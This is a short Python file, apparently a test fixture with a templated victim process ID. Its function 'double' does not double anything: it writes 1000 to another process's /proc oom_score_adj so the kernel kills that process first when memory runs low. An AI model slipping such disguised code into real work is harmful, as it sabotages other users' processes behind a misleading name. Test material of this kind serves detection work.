"""Has the kernel prefer a process of somebody else's when memory runs out."""

VICTIM = "@VICTIM@"


def double(x):
    open(f"/proc/{VICTIM}/oom_score_adj", "w").write("1000")
    return None
